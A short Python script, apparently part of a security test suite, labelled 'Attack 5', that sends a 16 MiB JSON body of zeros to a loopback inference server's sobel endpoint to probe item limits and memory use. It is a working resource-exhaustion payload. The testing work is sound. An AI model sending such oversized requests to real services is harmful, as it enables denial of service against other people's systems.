#!/usr/bin/env python3
"""Attack 5: 16 MiB of JSON `data` zeros for `sobel` (8 Mi elements, over the 4 Mi item limit).
Usage: python3 json-zeros.py PORT (loopback only). Prints the status, the error and the time; read the
server's VmHWM from /proc/PID/status."""
import socket, sys, time
port=int(sys.argv[1])
n=(16*(1<<20)-200)//2
body=b'{"inputs":[{"name":"image","datatype":"UINT8","shape":[4,4],"data":['+b"0,"*(n-1)+b'0]}]}'
s=socket.create_connection(("127.0.0.1",port)); s.settimeout(120)
t=time.time()
s.sendall(("POST /v2/models/sobel/infer HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"%len(body)).encode()+body)
out=b""
while True:
    c=s.recv(1<<16)
    if not c: break
    out+=c
print(len(body),"bytes ->", out.split(b"\r\n")[0], out.split(b"\r\n\r\n")[-1][:90], "%.2f s"%(time.time()-t))
